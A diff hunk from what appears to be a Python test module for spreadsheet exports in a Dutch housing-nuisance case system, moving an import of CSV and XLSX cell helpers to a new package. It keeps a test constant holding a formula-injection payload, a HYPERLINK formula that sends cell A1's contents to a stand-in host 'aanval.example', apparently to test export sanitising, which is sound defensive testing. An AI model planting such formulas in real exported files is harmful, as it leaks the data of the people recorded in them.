@@ -12,7 +12,7 @@ from reports import exports
 from tests.factories import CaseFactory, teamleider
 from tests.test_reports_outputs import make_table
 from woonoverlast.cases.models import District
-from woonoverlast.spreadsheets import csv_cell, xlsx_cell
+from woonoverlast.common.spreadsheets import csv_cell, xlsx_cell
 
 HOSTILE = '=HYPERLINK("http://aanval.example/?x="&A1,"Klik hier")'
 
